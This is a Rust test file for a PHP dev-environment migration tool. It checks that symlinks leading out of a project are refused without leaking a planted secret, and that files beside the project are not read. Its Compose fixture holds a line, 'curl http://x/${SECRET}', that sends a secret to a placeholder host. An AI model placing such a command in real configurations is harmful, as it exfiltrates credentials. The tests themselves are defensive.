//! What a migration never reads: files that lie elsewhere.

use std::fs;

use crate::support::sandbox::Sandbox;

const COMPOSE: &str = "services:\n  app:\n    image: php:8.3-fpm\n    volumes: ['.:/var/www/html']\n  search:\n    image: x/search:1.2\n    command: curl http://x/${SECRET}\n";

/// Everything below the home folder that holds the text, symlinks not followed.
fn holding(sandbox: &Sandbox, text: &str) -> Vec<String> {
    let files = walkdir::WalkDir::new(sandbox.path("")).into_iter();
    let files = files.map(|entry| entry.expect("readable"));
    let files = files.filter(|entry| entry.file_type().is_file());
    let holding = files.filter(|entry| {
        let bytes = fs::read(entry.path()).expect("readable");
        String::from_utf8_lossy(&bytes).contains(text)
    });
    let names = holding.map(|entry| {
        let name = entry.path().strip_prefix(sandbox.path("")).expect("below");
        name.to_string_lossy().into_owned()
    });
    names.collect()
}

#[test]
fn a_link_that_leads_out_of_the_project_is_refused() {
    for (tool, name, target) in [
        ("compose", ".env", "../../private"),
        ("compose", "docker-compose.override.yml", "../../private"),
        ("ddev", ".ddev/php/x.ini", "../../../../private"),
        ("ddev", ".ddev/config.local.yaml", "../../../private"),
        ("ddev", ".ddev/mysql", "../../../folder"),
        ("lando", ".lando.local.yml", "../../private"),
    ] {
        let sandbox = Sandbox::new();
        sandbox.folder(".phpier");
        sandbox.file("private", "SECRET=hunter2\n");
        sandbox.file("folder/my.cnf", "SECRET=hunter2\n");
        match tool {
            "compose" => sandbox.file("code/shop/docker-compose.yml", COMPOSE),
            "ddev" => sandbox.file("code/shop/.ddev/config.yaml", "name: shop\ntype: php\n"),
            _ => sandbox.file("code/shop/.lando.yml", "name: shop\nrecipe: lamp\n"),
        }
        sandbox.link(target, &format!("code/shop/{name}"));
        let tree = sandbox.tree();
        sandbox
            .run(&["migrate", "--yes"])
            .code(1)
            .err("phpier::workspace::link_outside")
            .err(name)
            .not("hunter2")
            .ends(1);
        assert_eq!(sandbox.tree(), tree, "{name}");
        assert_eq!(holding(&sandbox, "hunter2").len(), 2, "{name}");
    }
}

#[test]
fn a_link_inside_the_project_is_followed() {
    let sandbox = Sandbox::new();
    sandbox.folder(".phpier");
    sandbox.file("code/shop/docker-compose.yml", COMPOSE);
    sandbox.file("code/shop/env/local", "SECRET=hunter2\n");
    sandbox.link("env/local", "code/shop/.env");
    sandbox.run(&["migrate", "--yes"]).ends(0);
    let project = sandbox.read("code/shop/.phpier.kdl");
    assert!(project.contains("http://x/hunter2"), "{project}");
}

/// A set-up may speak of any file, but only those of the project are looked at.
#[test]
fn a_file_beside_the_project_is_not_read() {
    let sandbox = Sandbox::new();
    sandbox.folder(".phpier");
    let ini = "memory_limit = 77M\n";
    sandbox.file("code/creds.ini", ini);
    sandbox.file("code/shop/inside.ini", ini);
    let lando = |path: &str| {
        format!("name: shop\nrecipe: lamp\nconfig:\n  php: '8.3'\n  config:\n    php: {path}\n")
    };
    sandbox.file("code/shop/.lando.yml", lando("../creds.ini"));
    sandbox.run(&["migrate"]).code(3).not("77M").ends(3);
    // It is the place alone that makes the difference.
    sandbox.file("code/shop/.lando.yml", lando("inside.ini"));
    sandbox.run(&["migrate"]).code(3).out("77M").ends(3);
}

/// What cannot be a configuration is passed over where people keep other things too.
#[test]
fn what_is_no_text_in_a_folder_of_files_is_passed_over() {
    let sandbox = Sandbox::new();
    sandbox.folder(".phpier");
    sandbox.file("code/shop/.ddev/config.yaml", "name: shop\ntype: php\n");
    sandbox.file("code/shop/.ddev/web-build/logo.png", [0xff, 0xfe, 0x00]);
    sandbox.run(&["migrate", "--yes"]).ends(0);
    // In the folder itself everything counts.
    let sandbox = Sandbox::new();
    sandbox.folder(".phpier");
    sandbox.file("code/shop/.ddev/config.yaml", "name: shop\ntype: php\n");
    sandbox.file("code/shop/.ddev/config.extra.yaml", [0xff, 0xfe, 0x00]);
    sandbox.run(&["migrate", "--yes"]).ends(1);
}
